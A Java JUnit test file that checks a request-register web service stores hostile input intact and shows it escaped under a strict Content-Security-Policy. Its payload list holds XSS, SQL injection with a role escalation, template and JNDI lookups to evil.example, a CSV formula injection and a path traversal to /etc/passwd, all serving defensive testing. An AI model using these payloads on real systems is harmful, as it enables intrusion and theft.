package dev.lethe.server.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import dev.lethe.server.access.Principal;
import dev.lethe.server.access.Role;
import dev.lethe.server.erasure.SmallService;
import dev.lethe.server.register.RegisterRules;
import java.net.URLEncoder;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import tools.jackson.databind.json.JsonMapper;

/** Words that would be code elsewhere are words here: kept as they are, and shown as they are. */
class ShownBackTest {

  private static final String FORM = "application/x-www-form-urlencoded";

  @TempDir private static Path folder;

  private static SmallService service;

  @BeforeAll
  static void start() {
    service = SmallService.in(folder, new RegisterRules(true, 30, 0, 1, false));
  }

  @AfterAll
  static void stop() {
    service.close();
  }

  static Stream<String> words() {
    return Stream.of(
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "' autofocus onfocus=alert(1) x='",
        "<svg/onload=alert(1)>",
        "</textarea><script>alert(1)</script>",
        "</title><base href=//evil.example>",
        "<!--<script>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "javascript:alert(1)",
        "&lt;script&gt;",
        "${7*7} @if(true) {{7*7}} #{7*7} <%= 7*7 %>",
        "${jndi:ldap://evil.example/a}",
        "'; DROP TABLE request; --",
        "' OR '1'='1",
        "1); DELETE FROM trail; --",
        "Robert'); UPDATE token SET role='officer'; --",
        "%s%n%x {0} \\u003cscript\\u003e",
        "=cmd|' /C calc'!A0",
        "../../../../etc/passwd");
  }

  @ParameterizedTest
  @MethodSource("words")
  void as_channel_id_and_reason(String words) throws Exception {
    long before = service.office().register().requests().size();
    String body = json(Map.of("channel", words, "subjects", List.of(words)));
    HttpResponse<String> entered = service.post("/api/v1/requests", "requester", body);
    assertThat(entered.statusCode()).as(entered.body()).isEqualTo(201);
    assertThat(service.office().register().requests()).hasSize((int) before + 1);
    String path = entered.headers().firstValue("Location").orElseThrow();
    assertThat(JsonMapper.shared().readTree(entered.body()).get("channel").asString())
        .isEqualTo(words);
    requireShown(service.get("/?show=all", "officer"), words);
    String page = path.substring("/api/v1".length());
    requireShown(post(page + "/subjects", ""), words);
    assertThat(post(page + "/deny", "reason=" + encoded(words)).statusCode()).isEqualTo(303);
    requireShown(service.get(page, "officer"), words);
    assertThat(service.get(path, "officer").body()).contains("\"denied_because\":" + json(words));
  }

  @ParameterizedTest
  @MethodSource("words")
  void as_the_name_of_a_token_and_of_who_acts(String words) throws Exception {
    service
        .office()
        .access()
        .tokens()
        .make(Principal.of(words, Role.AUDITOR), LocalDate.of(2026, 2, 1), words);
    requireShown(service.get("/tokens", "officer"), words);
    requireShown(service.get("/trail", "officer"), words);
  }

  @ParameterizedTest
  @MethodSource("words")
  void in_a_form_that_is_refused(String words) throws Exception {
    HttpResponse<String> refused =
        post("/requests", "channel=" + "x".repeat(201) + "&subjects=" + encoded(words));
    assertThat(refused.statusCode()).isEqualTo(422);
    requireShown(refused, words);
    requireHarmless(post("/tokens", "role=" + encoded(words)), words);
    requireHarmless(service.get("/check?noted=" + encoded(words), "officer"), words);
  }

  private static String json(Object value) {
    return JsonMapper.shared().writeValueAsString(value);
  }

  private static String encoded(String words) {
    return URLEncoder.encode(words, StandardCharsets.UTF_8);
  }

  private static HttpResponse<String> post(String path, String form) throws Exception {
    return service.send(
        service
            .call(path, "officer")
            .header("Content-Type", FORM)
            .POST(BodyPublishers.ofString(form))
            .build());
  }

  private static void requireShown(HttpResponse<String> page, String words) {
    requireHarmless(page, words);
    assertThat(unescaped(page.body())).contains(words);
  }

  /** As a browser reads it; the ampersand last, so that nothing is read twice. */
  private static String unescaped(String html) {
    return html.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&#34;", "\"")
        .replace("&#39;", "'")
        .replace("&amp;", "&");
  }

  private static void requireHarmless(HttpResponse<String> page, String words) {
    assertThat(page.headers().firstValue("Content-Security-Policy").orElseThrow())
        .contains("script-src 'self'")
        .doesNotContain("unsafe");
    assertThat(page.headers().firstValue("Cache-Control")).hasValue("no-store");
    assertThat(page.body())
        .doesNotContain("<script>", "<img", "<svg/", "<base", "<!--", "<meta http-equiv=refresh");
    assertThat(page.body().replaceAll("\"[^\"]*\"", "")).doesNotContainPattern("<[^>]*\\son\\w+=");
    if (words.contains("<")) {
      assertThat(page.body()).doesNotContain(words);
    }
  }
}
